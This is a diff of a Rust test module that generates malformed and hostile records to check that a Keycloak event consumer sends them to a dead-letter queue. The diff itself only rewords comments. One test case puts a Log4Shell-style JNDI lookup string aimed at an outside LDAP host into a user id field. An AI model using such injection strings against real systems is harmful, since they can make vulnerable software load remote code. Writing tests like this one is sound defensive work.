@@ -1,4 +1,4 @@
-//! Hostile records: what nobody should write and somebody does.
+//! Hostile records: records that nobody should write, but somebody does.
 //!
 //! Knows nothing of ordinary records, except how to damage one.
 
@@ -10,7 +10,8 @@ use super::{Expected, keycloak::uuid};
 /// Large, but below the megabyte that brokers accept.
 const LARGE: usize = 200_000;
 
-/// A hostile record: its key, its value, and what it must become. `ordinary` is a value as Keycloak writes it.
+/// A hostile record: its key, its value, and what it must become. `ordinary` is a value as Keycloak writes
+/// it.
 pub(super) fn record(
     ordinary: &[u8],
     time: i64,
@@ -29,7 +30,7 @@ pub(super) fn record(
         8 => ("[".repeat(LARGE).into_bytes(), Expected::DeadLetter),
         9 => (text(&login(time, rng), "type", &json!({})), Expected::DeadLetter),
         10 => (text(&login(time, rng), "userId", &json!([])), Expected::DeadLetter),
-        // No endpoint may have such a user id, and without it the event would belong to nobody.
+        // No endpoint may have such a user id, and without the id the event would belong to nobody.
         11 => {
             (text(&login(time, rng), "userId", &json!("${jndi:ldap://203.0.113.9/a}")), Expected::DeadLetter)
         }
